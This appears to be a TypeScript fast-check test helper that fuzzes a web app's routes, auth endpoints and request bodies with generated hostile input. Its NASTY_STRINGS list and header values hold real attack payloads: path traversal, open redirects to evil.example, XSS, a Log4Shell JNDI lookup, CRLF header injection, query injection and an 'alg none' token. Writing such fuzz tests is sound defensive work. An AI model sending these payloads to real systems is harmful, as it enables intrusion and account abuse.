import fc from 'fast-check';

/**
 * One fixed seed for every property, so a failure replays exactly: fast-check prints it (with the
 * path of the failing run) in the failure message. Override with FC_SEED to explore further.
 */
export const SEED = Number(process.env.FC_SEED ?? 20_240_817);

/**
 * Bounded runs with the fixed seed. No shrinking: every run is a real HTTP exchange, and the
 * printed counterexample, seed and path are enough to replay it.
 */
export function propertyParameters<T>(numRuns: number): fc.Parameters<T> {
  return { numRuns, seed: SEED, endOnFailure: true, reporter: compactReport };
}

/** fast-check's report, with the counterexample cut short (hostile inputs can be huge). */
function compactReport<T>(details: fc.RunDetails<T>): void {
  if (!details.failed) return;
  // FC_FULL=1 prints the counterexample whole.
  const full = process.env.FC_FULL === '1';
  const example = JSON.stringify(details.counterexample, (_key, value: unknown) =>
    !full && typeof value === 'string' && value.length > 200
      ? `${value.slice(0, 100)}…(${value.length} chars)`
      : Buffer.isBuffer(value)
        ? `<${value.length} bytes>`
        : value,
  );
  const cause = details.errorInstance instanceof Error ? details.errorInstance.message : '';
  throw new Error(
    `Property failed after ${details.numRuns} runs (replay with seed ${details.seed}, path ` +
      `"${details.counterexamplePath}")\nCounterexample: ${full ? example : example?.slice(0, 2000)}\n${cause}`,
    { cause: details.errorInstance },
  );
}

/** Request headers cut down to what an HTTP server takes (Node's limit is 16 KiB in all). */
export function withinHeaderLimit(headers: Record<string, string>): Record<string, string> {
  const kept: Record<string, string> = {};
  let size = 0;
  for (const [name, value] of Object.entries(headers)) {
    const length = name.length + value.length + 4;
    if (size + length > 12 * 1024) continue;
    kept[name] = value;
    size += length;
  }
  return kept;
}

/** Strings that have broken parsers, routers, templates and filters before. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '..',
  '.',
  '../..',
  '..\\..',
  '%2e%2e',
  '%2E%2e%2f',
  '..%2F..',
  '..%252F..',
  '%252e%252e',
  '%2F',
  '%5C',
  '%00',
  '%',
  '%%',
  '%zz',
  '%E0%A4',
  '%C0%AE%C0%AE',
  '\\',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example',
  'http:%2F%2Fevil.example',
  'javascript:alert(1)',
  '@evil.example',
  'user:pass@evil.example',
  '。',
  '．',
  '%E3%80%82',
  '%EF%BC%8E%EF%BC%8E',
  '\u0000',
  '\r\n',
  '%0d%0aSet-Cookie:%20x=1',
  '<script>alert(1)</script>',
  '"\'><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  "' or PartitionKey ne '",
  "PartitionKey eq 'x'",
  '\uFEFF',
  '\u202E',
  '💩',
  '\uD800',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'A'.repeat(5000),
];

/** Any text: graphemes, any code point (lone surrogates too), or a known-nasty string. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...NASTY_STRINGS),
);

/** A header value a client can send: Latin-1 without control characters but tab. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({
    unit: fc
      .integer({ min: 0x20, max: 0xff })
      .filter((code) => code !== 0x7f)
      .map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
  fc.constantFrom('', '\t', '1', 'null', 'A'.repeat(5000), '%00', 'eyJhbGciOiJub25lIn0.e30.'),
);

function percentEncodeBytes(text: string, keep: (char: string) => boolean): string {
  let out = '';
  for (const char of text) {
    if (keep(char)) out += char;
    else
      for (const byte of Buffer.from(char, 'utf8'))
        out += `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** `encodeURIComponent` for any string: lone surrogates go out as U+FFFD instead of throwing. */
export function percentEncode(text: string): string {
  return percentEncodeBytes(text, (char) => /^[A-Za-z0-9_.~-]$/.test(char));
}

/**
 * A piece of a request target (path segment or query value) made from hostile text: sent raw
 * where the request line allows it, percent-encoded, double-encoded or as Latin-1 bytes.
 */
export const targetPiece: fc.Arbitrary<string> = fc
  .tuple(hostileText, fc.constantFrom('raw', 'encoded', 'double', 'latin1'))
  .map(([text, mode]) => {
    const printable = (char: string) => /^[\x21-\x7e]$/.test(char) && !'#?/'.includes(char);
    switch (mode) {
      case 'raw':
        return percentEncodeBytes(text, printable);
      case 'encoded':
        return percentEncodeBytes(text, (char) => /^[A-Za-z0-9_.~-]$/.test(char));
      case 'double':
        return percentEncodeBytes(text, (char) => /^[A-Za-z0-9_.~-]$/.test(char)).replace(
          /%/g,
          '%25',
        );
      default:
        // Bytes 0x80-0xff straight into the request line: not UTF-8.
        return percentEncodeBytes(text, (char) => printable(char) || /^[\x80-\xff]$/.test(char));
    }
  });

/** The app's routes, as the Functions host serves them. */
export const ROUTES = [
  '/',
  '/static/app.js',
  '/static/',
  '/auth/signin',
  '/auth/redirect',
  '/auth/me',
  '/auth/signout',
  '/auth/sessions',
  '/auth/sessions/',
  '/api/todos',
  '/api/todos/',
  '/health',
] as const;

/**
 * A request path: a route, maybe with hostile segments after it, or something else entirely
 * (`//x/y` included, which a host must read as a path, not as a URL naming host `x`).
 */
export function pathFrom(routes: readonly string[]): fc.Arbitrary<string> {
  const withItems = routes.some((route) => route.startsWith('/api/todos'));
  const withStatic = routes.some((route) => route.startsWith('/static/'));
  return fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...routes) },
    {
      weight: withItems ? 4 : 0,
      arbitrary: fc.oneof(todoId, targetPiece).map((id) => `/api/todos/${id}`),
    },
    {
      weight: withStatic ? 1 : 0,
      arbitrary: fc
        .oneof(
          fc.constantFrom(
            'app.js',
            'sessions.js',
            'notes.js',
            'app.css',
            'favicon.svg',
            'index.html',
          ),
          targetPiece,
        )
        .map((name) => `/static/${name}`),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...routes), fc.array(targetPiece, { minLength: 1, maxLength: 3 }))
        .map(([route, pieces]) => `${route.replace(/\/$/, '')}/${pieces.join('/')}`),
    },
    {
      weight: 1,
      arbitrary: fc.array(targetPiece, { maxLength: 4 }).map((pieces) => `/${pieces.join('/')}`),
    },
  );
}

/** An id the proxy accepts (letters, digits, `-`, `_`; 1 to 128), or one just past the rules. */
export const todoId: fc.Arbitrary<string> = fc.oneof(
  fc.uuid(),
  fc.stringMatching(/^[A-Za-z0-9_-]{1,128}$/),
  fc.constantFrom('a'.repeat(128), 'a'.repeat(129), '-', '_', '0'),
);

const QUERY_KEYS = [
  'returnTo',
  'consent',
  'loginHint',
  'code',
  'state',
  'error',
  'error_description',
  'session_state',
  'id',
  'next',
];

/** A query string (with its `?`), or nothing: known and unknown keys, repeated keys, bad escapes. */
export const queryString: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  fc
    .array(
      fc.tuple(fc.oneof(fc.constantFrom(...QUERY_KEYS), targetPiece), fc.option(targetPiece)),
      { minLength: 1, maxLength: 5 },
    )
    .map(
      (pairs) =>
        `?${pairs.map(([key, value]) => (value === null ? key : `${key}=${value}`)).join('&')}`,
    ),
);

export const METHODS = [
  'GET',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'HEAD',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
];

export const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=iso-8859-1',
  'application/problem+json',
  'application/vnd.evil+json',
  'application/x-www-form-urlencoded',
  'text/plain',
  'multipart/form-data; boundary=x',
  'APPLICATION/JSON',
  'application/json;;;charset="utf-8"',
];

/**
 * A request body: absent, JSON of any shape and type, text, bytes (not UTF-8), larger than the
 * limit, nested deep, or a form.
 */
export const requestBody: fc.Arbitrary<string | Buffer | undefined> = fc.oneof(
  { weight: 2, arbitrary: fc.constant(undefined) },
  { weight: 3, arbitrary: fc.json({ depthSize: 'small' }) },
  {
    weight: 3,
    arbitrary: fc
      .record({ description: fc.oneof(fc.jsonValue(), hostileText) }, { requiredKeys: [] })
      .map((value) => JSON.stringify(value)),
  },
  { weight: 1, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 512 }).map((bytes) => Buffer.from(bytes)) },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 16 * 1024 - 16, max: 256 * 1024 })
      .map((size) => JSON.stringify({ description: 'x'.repeat(size) })),
  },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 1, max: 1000 })
      .map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  },
  { weight: 1, arbitrary: headerValue.map((value) => `csrf=${encodeURIComponent(value)}`) },
);
